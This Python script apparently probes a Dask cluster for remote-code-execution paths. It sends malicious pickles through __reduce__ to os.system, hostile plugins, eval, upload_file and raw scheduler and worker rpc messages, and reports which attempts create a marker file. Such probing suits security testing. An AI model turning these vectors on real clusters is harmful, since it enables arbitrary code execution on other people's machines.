"""Tries to run code on workers and on the scheduler, with all that Dask offers: ``ADDRESS MARK [WORKER]``.

Each attempt would create a file below MARK. Prints what became of each.
"""

from __future__ import annotations

import asyncio
import functools
import os
import pickle
import sys
import traceback
from pathlib import Path
from typing import Any

import cloudpickle
from distributed import Client, Worker, WorkerPlugin
from distributed.comm import connect
from distributed.core import rpc
from distributed.diagnostics.plugin import SchedulerPlugin
from distributed.protocol.serialize import Serialize, ToPickle

ADDRESS, MARK, WORKER = sys.argv[1], Path(sys.argv[2]), sys.argv[3]
SECONDS = 4


def touch(name: str) -> Any:
    return functools.partial(os.system, f"touch {MARK / name}")


class Evil:
    """Runs a command when it is unpickled."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __reduce__(self) -> Any:
        return os.system, (f"touch {MARK / self.name}",)


class EvilWorkerPlugin(WorkerPlugin):
    def setup(self, worker: Worker) -> None:
        touch("worker-plugin")()


class EvilSchedulerPlugin(SchedulerPlugin):
    def start(self, scheduler: Any) -> None:
        touch("scheduler-plugin")()


class Actor:
    def __init__(self) -> None:
        touch("actor")()


def by_value(name: str) -> None:
    cloudpickle.register_pickle_by_value(sys.modules[__name__])
    Path(name).touch()


async def message(address: str, told: dict[str, Any]) -> Any:
    comm = await connect(address, timeout=SECONDS)
    try:
        await comm.write(told)
        return await asyncio.wait_for(comm.read(), SECONDS)
    finally:
        comm.abort()


async def called(name: str, **given: Any) -> Any:
    async with rpc(WORKER) as worker:
        return await asyncio.wait_for(getattr(worker, name)(**given), SECONDS)


async def stream() -> None:
    """What the scheduler would send to a worker, sent by somebody else."""
    comm = await connect(WORKER, timeout=SECONDS)
    await comm.write({"op": "connection_stream", "reply": False})
    task = {
        "op": "compute-task",
        "key": "x",
        "who_has": {},
        "nbytes": {},
        "priority": (0,),
        "run_spec": ToPickle(Evil("stream")),
    }
    await comm.write([{**task, "stimulus_id": "s", "duration": 1.0, "actor": False, "resource_restrictions": {}}])
    await asyncio.sleep(1)
    comm.abort()


def attempts(client: Client) -> dict[str, Any]:
    def result(future: Any) -> Any:
        return future.result(timeout=SECONDS)

    file = MARK.parent / "uploaded.py"
    file.write_text(f"import os\nos.system('touch {MARK / 'upload'}')\n")
    evil = pickle.dumps(Evil("rpc"))
    enum = {"__Enum__": True, "__module__": "distributed.utils", "__name__": "os", "name": "getcwd"}
    run = asyncio.run
    return {
        "a pickle in any message": lambda: run(message(WORKER, {"op": "ping", "x": ToPickle(Evil("ping"))})),
        "a stream of tasks": lambda: run(stream()),
        "os.system": lambda: result(client.submit(os.system, f"touch {MARK / 'submit'}", pure=False)),
        "eval": lambda: result(client.submit(eval, f"__import__('os').system('touch {MARK / 'eval'}')", pure=False)),
        "a function by value": lambda: result(client.submit(by_value, str(MARK / "by-value"), pure=False)),
        "a lambda": lambda: result(client.submit(lambda: Path(str(MARK / "lambda")).touch(), pure=False)),
        "an argument": lambda: result(client.submit(len, Evil("argument"), pure=False)),
        "scatter": lambda: client.scatter(Evil("scatter"), timeout=SECONDS, hash=False),
        "client.run": lambda: client.run(os.system, f"touch {MARK / 'run'}"),
        "run_on_scheduler": lambda: client.run_on_scheduler(os.system, f"touch {MARK / 'scheduler'}"),
        "a worker plugin": lambda: client.register_plugin(EvilWorkerPlugin()),
        "a scheduler plugin": lambda: client.register_plugin(EvilSchedulerPlugin()),
        "upload_file": lambda: client.upload_file(str(file)),
        "an actor": lambda: result(client.submit(Actor, actor=True)),
        "rpc run": lambda: run(called("run", function=evil)),
        "rpc run_coroutine": lambda: run(called("run_coroutine", function=evil)),
        "rpc upload_file": lambda: run(
            called("upload_file", filename="uploaded.py", data=file.read_bytes(), load=True)
        ),
        "rpc plugin-add": lambda: run(message(WORKER, {"op": "plugin-add", "plugin": evil, "reply": True})),
        "rpc update_data": lambda: run(message(WORKER, {"op": "update_data", "data": Serialize(Evil("data"))})),
        "a pickle for the scheduler": lambda: run(message(ADDRESS, {"op": "identity", "x": ToPickle(Evil("id"))})),
        "an enum": lambda: run(message(WORKER, {"op": "ping", "x": enum})),
        "feed": lambda: run(message(ADDRESS, {"op": "feed", "function": pickle.dumps(Evil("feed")), "interval": 1})),
        "dump": lambda: run(
            message(ADDRESS, {"op": "dump_cluster_state_to_url", "url": str(MARK / "dump"), "exclude": []})
        ),
    }


def main() -> None:
    with Client(ADDRESS, set_as_default=False, timeout=20) as client:
        for name, attempt in attempts(client).items():
            try:
                print(f"{name}: {str(attempt())[:900]!r}", flush=True)
            except BaseException as error:  # noqa: BLE001 - whatever Dask raises
                print(f"{name}: {type(error).__name__}: {str(error)[:900]!r}", flush=True)
                if "-v" in sys.argv:
                    traceback.print_exc()
    print("done", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
